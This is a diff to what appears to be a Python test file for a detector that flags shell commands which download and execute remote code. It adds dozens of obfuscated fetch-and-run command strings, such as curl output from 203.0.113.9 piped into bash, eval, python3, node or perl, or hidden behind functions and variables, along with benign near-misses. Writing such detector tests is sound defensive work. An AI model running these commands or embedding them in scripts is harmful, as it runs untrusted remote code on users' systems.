@@ -1,4 +1,4 @@
-"""What a command line downloads and executes is found in whatever form; what it only compares or names is not."""
+"""What a command line downloads and executes is found; what it only compares or names is not."""
 
 from __future__ import annotations
 
@@ -73,6 +73,18 @@ EXECUTED = [
     f'sh -c X=$({GET}); printf -v Y "$X"; $Y',
     f"sh -c for i in $({GET}); do $i; done",
     f"sh -c {GET} | while read l; do $l; done",
+    f'sh -c X=$({GET}); set -- "$X"; $1',
+    f'sh -c f() {{ $1; }}; X=$({GET}); f "$X"',
+    f'sh -c export "X=a" Y=$({GET}); $Y',
+    f'sh -c export X="a Y=$({GET})"; $X',
+    # Another name for what downloads
+    f'sh -c f() {{ {GET}; }}; bash -c "$(f)"',
+    f"sh -c f() {{ {GET}; }}; X=$(f); $X",
+    'sh -c f() { C=curl; eval "$($C -s http://203.0.113.9/x)"; }; f',
+    "sh -c echo $(case x in x) X=$(curl -s http://203.0.113.9/x); $X;; esac)",
+    "sh -c C=curl; $($C -s http://203.0.113.9/x)",
+    'sh -c C="/usr/bin/curl -s"; bash -c "$($C http://203.0.113.9/x)"',
+    'sh -c C=$(which curl); bash -c "$(${C} http://203.0.113.9/x)"',
     # Quotes and brackets that would hide it
     f'env A=" sh -c $({GET}) "',
     f'sh -c echo $(A=")" $({GET}))',
@@ -84,6 +96,11 @@ EXECUTED = [
     f"sh -c {GET} | xargs -0 -n 1 sh -c",
     f"sh -c {GET} | ( bash )",
     f"sh -c {GET} | tee >(bash)",
+    f"sh -c {GET} | . /dev/stdin",
+    f'sh -c {GET} | eval "$(cat)"',
+    f"sh -c {GET} | python3 -u - a",
+    f"sh -c {GET} | node -",
+    f"sh -c {GET} | perl",
     f'sh -c echo "$({GET})" | bash',
 ]
 NOT_EXECUTED = [
@@ -114,6 +131,11 @@ NOT_EXECUTED = [
     f"sh -c ({GET} -o /tmp/a; true)",
     f"sh -c {GET} | xargs echo",
     f"sh -c {GET} | env A=1 grep sh",
+    f'sh -c {GET} | node -e "console.log(1)"',
+    f"sh -c {GET} | python3 -m json.tool",
+    f"sh -c {GET} | ./parse.sh.py",
+    f"sh -c f() {{ {GET}; }}; [ $(f) = ok ] && exit 0",
+    'sh -c C=curl; [ "$($C -s http://a/x)" = ok ]',
 ]
 
 
